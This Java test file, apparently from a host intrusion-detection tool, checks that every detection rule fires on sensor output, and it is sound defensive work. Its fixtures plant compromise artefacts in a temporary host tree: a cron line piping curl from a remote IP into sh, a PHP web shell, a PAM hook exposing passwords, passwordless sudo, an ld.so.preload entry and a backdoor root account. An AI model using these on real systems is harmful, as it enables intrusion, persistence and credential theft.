package dev.panoptes.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.panoptes.cli.Session.Run;
import dev.panoptes.cli.shell.ExitCode;
import dev.panoptes.core.event.Event;
import dev.panoptes.core.host.Host;
import dev.panoptes.core.host.Privileges;
import dev.panoptes.core.yaml.YamlNode;
import dev.panoptes.core.yaml.YamlReader;
import dev.panoptes.core.yaml.YamlResult;
import dev.panoptes.detection.sigma.OwnRules;
import dev.panoptes.detection.sigma.RuleCases;
import dev.panoptes.detection.sigma.RuleInfo;
import dev.panoptes.detection.sigma.RuleSet;
import dev.panoptes.sensors.Cycle;
import dev.panoptes.sensors.EventSink;
import dev.panoptes.sensors.Loss;
import dev.panoptes.sensors.Positions;
import dev.panoptes.sensors.Sensor;
import dev.panoptes.sensors.Settings;
import dev.panoptes.sensors.Surroundings;
import dev.panoptes.sensors.Watch;
import dev.panoptes.sensors.flow.FlowSensor;
import dev.panoptes.sensors.snmp.SnmpSensor;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Instant;
import java.time.InstantSource;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicLong;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.snmp4j.CommandResponder;
import org.snmp4j.CommandResponderEvent;
import org.snmp4j.MessageException;
import org.snmp4j.PDU;
import org.snmp4j.Snmp;
import org.snmp4j.asn1.BER;
import org.snmp4j.mp.SnmpConstants;
import org.snmp4j.mp.StatusInformation;
import org.snmp4j.smi.Address;
import org.snmp4j.smi.Null;
import org.snmp4j.smi.OID;
import org.snmp4j.smi.TimeTicks;
import org.snmp4j.smi.UdpAddress;
import org.snmp4j.smi.VariableBinding;
import org.snmp4j.transport.DefaultUdpTransportMapping;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Every rule that ships fires on what a sensor told of it: a tree of processes, a log, records of the kernel's audit, files between two
 * looks, tables of connections, a capture, a device that is polled. A rule that none of these feeds fails here.
 */
final class EveryRuleFiresTest {
    private static final JsonMapper JSON = new JsonMapper();
    private static final Path INPUTS = Path.of("src", "test", "resources", "firing");
    private static final Instant NOW = Session.NOW;

    @TempDir
    private Path directory;

    private final List<Event> events = new CopyOnWriteArrayList<>();
    private final EventSink sink = new Told(events);
    private final List<String> lines = new ArrayList<>();
    private HostTree tree;
    private Path root;

    @BeforeEach
    void host() throws IOException {
        root = Files.createDirectories(directory.resolve("host"));
        tree = new HostTree(root);
        tree.file("/etc/hostname", "db-7\n");
        tree.file(
                "/etc/passwd",
                "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n"
                        + "www-data:x:33:33::/var/www:/usr/sbin/nologin\n");
    }

    @AfterEach
    void linksOutOfTheTree() throws IOException {
        HostTree.unlink(root);
    }

    private void told(String... arguments) {
        List<String> all = new ArrayList<>(List.of("sensor"));
        all.addAll(List.of(arguments));
        all.addAll(List.of("--once", "--output", "json", "--no-heartbeat", "--data-dir", "data", "--timezone", "UTC"));
        Run run = new Session(directory).run(all.toArray(String[]::new));
        assertThat(run.code()).as(run.err()).isEqualTo(ExitCode.OK);
        lines.addAll(run.out().lines().toList());
    }

    private void replayed(String sensor, String file) {
        told(sensor, "--replay", INPUTS.resolve(file).toAbsolutePath().toString());
    }

    private Set<String> fired() throws IOException {
        Files.write(directory.resolve("events.ndjson"), lines);
        Path rules = Path.of("..", "rules").toAbsolutePath().normalize();
        Run run =
                new Session(directory).run("rules", "match", "--rules", rules.toString(), "--events", "events.ndjson");
        Map<String, String> names = new HashMap<>();
        RuleSet.of(OwnRules.read()).rules().forEach(rule -> names.put(rule.key(), rule.name()));
        Set<String> fired = new TreeSet<>();
        for (String line : run.out().lines().toList()) {
            fired.add(names.get(JSON.readTree(line).path("rule").asString()));
        }
        return fired;
    }

    @Test
    void everyRuleFiresOnWhatASensorTold() throws IOException, InterruptedException {
        processes();
        told("proc", "--host-root", root.toString());
        replayed("kernel_audit", "audit.log");
        replayed("auth", "auth.log");
        replayed("dns", "named.log");
        replayed("peripheral", "kern.log");
        filesBetweenTwoLooks();
        trap();
        connections();
        poll();
        events.forEach(event -> lines.add(event.json()));

        Set<String> silent = new TreeSet<>();
        for (RuleInfo rule : RuleSet.of(OwnRules.read()).rules()) {
            if (!rule.silent()) {
                silent.add(rule.name());
            }
        }
        silent.removeAll(fired());
        assertThat(silent).as("rules that no sensor made fire").isEmpty();
    }

    /** What the cases of the rules of processes start, each with its parent. */
    private void processes() throws IOException {
        RuleSet rules = RuleSet.of(OwnRules.read());
        int pid = 1000;
        for (RuleInfo rule : rules.rules()) {
            RuleCases cases = new RuleCases(rules);
            cases.run(rule.file(), OwnRules.cases(rule.file()));
            for (RuleCases.Case each : cases.cases()) {
                JsonNode event = JSON.readTree(each.events());
                JsonNode process = event.path("process");
                if (each.matches()
                        && event.path("event").path("dataset").asString("").equals("panoptes.proc")
                        && !process.path("executable").asString("").isEmpty()) {
                    pid += 2;
                    process(pid - 1, 1, process.path("parent"), event);
                    process(pid, pid - 1, process, event);
                }
            }
        }
    }

    private void process(int pid, int parent, JsonNode process, JsonNode event) throws IOException {
        List<String> arguments = new ArrayList<>();
        process.path("args").forEach(argument -> arguments.add(argument.asString()));
        String executable = process.path("executable").asString("/usr/bin/bash");
        if (arguments.isEmpty()) {
            arguments.add(executable);
        }
        int user = switch (event.path("user").path("name").asString("")) {
            case "root" -> 0;
            case "www-data" -> 33;
            default -> 1000;
        };
        tree.process(pid, parent, executable, arguments, user);
    }

    private void filesBetweenTwoLooks() throws IOException {
        tree.file("/root/.bash_history", "ls\n");
        tree.file("/var/log/auth.log", "x\n");
        tree.file("/usr/bin/ssh", "good\n");
        tree.file("/usr/bin/ssh-tell", "good\n");
        tree.file(
                "/var/lib/dpkg/status",
                "Package: openssh-client\nStatus: install ok installed\nVersion: 1:9.2p1-2\n\n");
        tree.file("/var/lib/dpkg/info/openssh-client.list", "/.\n/usr\n/usr/bin\n/usr/bin/ssh\n/usr/bin/ssh-tell\n");
        tree.file(
                "/var/lib/dpkg/info/openssh-client.md5sums",
                "e2a85b9d4fb9bd4fb2cfb2ea6a0bd7b4  usr/bin/ssh\ne2a85b9d4fb9bd4fb2cfb2ea6a0bd7b4  usr/bin/ssh-tell\n");
        tree.file("/var/www/html/index.html", "<h1>It works</h1>\n");
        tree.file("/etc/cron.d/nightly", "0 3 * * * root /usr/local/bin/nightly\n");
        tree.file("/home/bob/a.txt", "a\n");
        Files.createDirectories(root.resolve("dev/shm"));
        tree.file("/usr/local/bin/helper", "x\n");
        tree.file("/home/bob/bash", "x\n");
        Files.writeString(
                directory.resolve("sensor.yaml"),
                "file_integrity:\n  paths: [/etc, /root, /home, /usr/bin, /usr/local, /var/www, /var/log, /dev/shm]\n");
        look();
        lines.removeIf(line -> line.contains("panoptes.persistence"));
        Files.delete(root.resolve("root/.bash_history"));
        Files.delete(root.resolve("var/log/auth.log"));
        tree.file("/usr/bin/ssh", "evil\n");
        tree.file("/usr/bin/ssh-tell", "evil\n");
        tree.file("/var/www/html/index.html", "<h1>owned</h1>\n");
        tree.file("/var/www/html/uploads/t.php", "<?php system($_GET[1]);\n");
        tree.file("/var/www/html/x.php", "<?php\n");
        tree.file("/home/bob/HOW_TO_DECRYPT.txt", "pay\n");
        tree.file("/dev/shm/x", "x\n");
        Files.setPosixFilePermissions(root.resolve("dev/shm/x"), PosixFilePermissions.fromString("rwxr-xr-x"));
        Files.setAttribute(root.resolve("usr/local/bin/helper"), "unix:mode", 04755);
        Files.setAttribute(root.resolve("home/bob/bash"), "unix:mode", 04755);
        tree.file("/etc/ld.so.preload", "/usr/local/lib/libproc.so\n");
        tree.file("/etc/cron.d/nightly", "0 3 * * * root /usr/local/bin/other\n");
        tree.file("/etc/cron.d/sync", "*/5 * * * * root curl -fsSL http://203.0.113.9/x | sh\n");
        tree.file("/etc/pam.d/sshd", "auth optional pam_exec.so quiet expose_authtok /tmp/.p.sh\n");
        tree.file("/etc/pam.d/su", "session optional pam_exec.so /usr/local/bin/tell\n");
        tree.file("/etc/sudoers.d/bob", "bob ALL=(ALL) NOPASSWD:ALL\n");
        tree.file("/etc/modules-load.d/evil.conf", "evil\n");
        tree.file(
                "/root/.ssh/authorized_keys",
                "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJpo8vPMjbhHnKW1kqYVjA0o1Yd9Q2l1pXgqgZKfTn2E x\n");
        tree.file(
                "/etc/passwd",
                "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\nsvc::101:101::/srv:/bin/sh\nbob:x:1000:1000::/home/bob:/bin/bash\n");
        look();
    }

    private void look() {
        told("file_integrity", "--host-root", root.toString(), "--config", "sensor.yaml");
        told("persistence", "--host-root", root.toString(), "--config", "sensor.yaml");
    }

    private Surroundings surroundings(String settings) {
        YamlResult read = new YamlReader().parse(settings.getBytes(StandardCharsets.UTF_8), "test");
        return new Surroundings(
                new Host(root),
                new Privileges(0, 0, false),
                InstantSource.fixed(NOW),
                ZoneOffset.UTC,
                Settings.of((YamlNode.Mapping) ((YamlResult.Parsed) read).root(), ""),
                Positions.NONE,
                directory,
                true);
    }

    private void watched(Sensor sensor, String settings, Between between) throws IOException, InterruptedException {
        int before = events.size();
        try (Watch watch = sensor.open(surroundings(settings), sink)) {
            watch.collect(new Cycle(1, NOW));
            between.happens();
            watch.collect(new Cycle(2, NOW));
        }
        // What the runner of sensors adds to every event.
        for (int i = before; i < events.size(); i++) {
            events.set(
                    i,
                    events.get(i).toBuilder()
                            .put("event.dataset", "panoptes." + sensor.name())
                            .build());
        }
    }

    /** Connections in the table of the tree's first process, and who holds their sockets. */
    private void connections() throws IOException, InterruptedException {
        String head = "  sl  local_address rem_address   st\n";
        tree.file("/proc/1/net/tcp", head);
        watched(new FlowSensor(), "{}", () -> {
            StringBuilder table = new StringBuilder(head);
            int inode = 700;
            for (int port : new int[] {4444, 6667, 9050, 443, 8443}) {
                table.append("   1: 0A00000A:" + Integer.toHexString(0x8000 + inode) + " 026433C6:"
                        + String.format("%04X", port) + " 01 0:0 00:0 0 1000 0 " + inode + " 1\n");
                inode++;
            }
            tree.file("/proc/1/net/tcp", table.toString());
            tree.process(700, 1, "/usr/bin/bash", List.of("bash", "-i"), 1000);
            tree.process(703, 1, "/tmp/x", List.of("/tmp/x"), 1000);
            tree.process(704, 1, "/tmp/.x", List.of("/tmp/.x"), 1000);
            for (int holder : new int[] {700, 703, 704}) {
                Path held = Files.createDirectories(root.resolve("proc/" + holder + "/fd"));
                Files.createSymbolicLink(held.resolve("3"), Path.of("socket:[" + holder + "]"));
            }
        });
    }

    /** A device whose configuration changes between two polls. */
    private void poll() throws IOException, InterruptedException {
        AtomicLong changed = new AtomicLong(100);
        OID configured = new OID("1.3.6.1.4.1.9.9.43.1.1.1.0");
        try (Snmp device =
                new Snmp(new DefaultUdpTransportMapping(new UdpAddress(InetAddress.getLoopbackAddress(), 0)))) {
            device.addCommandResponder(new CommandResponder() {
                @Override
                public <A extends Address> void processPdu(CommandResponderEvent<A> request) {
                    answer(device, request, configured, changed.get());
                }
            });
            device.listen();
            UdpAddress at = (UdpAddress) device.getMessageDispatcher()
                    .getTransportMappings()
                    .iterator()
                    .next()
                    .getListenAddress();
            Path community = Files.writeString(directory.resolve("community"), "secret");
            watched(
                    new SnmpSensor(),
                    "devices: [{name: sw1, address: 127.0.0.1, port: " + at.getPort()
                            + ", version: 2c, community_file: " + community + ", oids: ['" + configured + "']}]",
                    () -> changed.set(200));
        }
    }

    private static <A extends Address> void answer(
            Snmp device, CommandResponderEvent<A> request, OID configured, long changed) {
        PDU pdu = request.getPDU();
        for (int i = 0; i < pdu.size(); i++) {
            OID oid = pdu.get(i).getOid();
            pdu.set(
                    i,
                    pdu.getType() == PDU.GET && oid.equals(configured)
                            ? new VariableBinding(oid, new TimeTicks(changed))
                            : new VariableBinding(oid, Null.noSuchObject));
        }
        pdu.setType(PDU.RESPONSE);
        try {
            device.getMessageDispatcher()
                    .returnResponsePdu(
                            request.getMessageProcessingModel(),
                            request.getSecurityModel(),
                            request.getSecurityName(),
                            request.getSecurityLevel(),
                            pdu,
                            request.getMaxSizeResponsePDU(),
                            request.getStateReference(),
                            new StatusInformation());
        } catch (MessageException e) {
            throw new IllegalStateException(e);
        }
    }

    /** A trap of a device to which somebody gave a wrong community, in a capture of raw IPv4. */
    private void trap() throws IOException {
        PDU pdu = new PDU();
        pdu.setType(PDU.TRAP);
        pdu.add(new VariableBinding(SnmpConstants.sysUpTime, new TimeTicks(4711)));
        pdu.add(new VariableBinding(SnmpConstants.snmpTrapOID, new OID("1.3.6.1.6.3.1.1.5.5")));
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        BER.encodeInteger(body, BER.INTEGER, 1);
        BER.encodeString(body, BER.OCTETSTRING, "public".getBytes(StandardCharsets.UTF_8));
        pdu.encodeBER(body);
        ByteArrayOutputStream message = new ByteArrayOutputStream();
        BER.encodeHeader(message, BER.SEQUENCE, body.size());
        body.writeTo(message);
        int length = 28 + message.size();
        ByteBuffer capture = ByteBuffer.allocate(24 + 16 + length).order(ByteOrder.LITTLE_ENDIAN);
        capture.putInt(0xa1b2c3d4)
                .putShort((short) 2)
                .putShort((short) 4)
                .putLong(0)
                .putInt(65535)
                .putInt(101);
        capture.putInt((int) NOW.getEpochSecond()).putInt(0).putInt(length).putInt(length);
        capture.order(ByteOrder.BIG_ENDIAN);
        capture.putShort((short) 0x4500).putShort((short) length).putInt(0).putInt(0x40110000);
        capture.putInt(0xC0000201).putInt(0xC0000202);
        capture.putShort((short) 40000)
                .putShort((short) 162)
                .putShort((short) (length - 20))
                .putShort((short) 0);
        capture.put(message.toByteArray());
        Files.write(directory.resolve("trap.pcap"), capture.array());
        told("snmp", "--replay", "trap.pcap");
    }

    @FunctionalInterface
    private interface Between {
        void happens() throws IOException;
    }

    private record Told(List<Event> events) implements EventSink {
        @Override
        public void event(Event.Builder event) {
            events.add(event.build());
        }

        @Override
        public void lost(Loss reason, String provider, long count) {
            throw new AssertionError("nothing is lost here");
        }

        @Override
        public void malformed(String provider, long count) {
            throw new AssertionError("everything can be read here");
        }

        @Override
        public void position(String source, String position) {
            throw new AssertionError("nothing here has a position");
        }

        @Override
        public void flush() {
            // nothing is held back
        }
    }
}
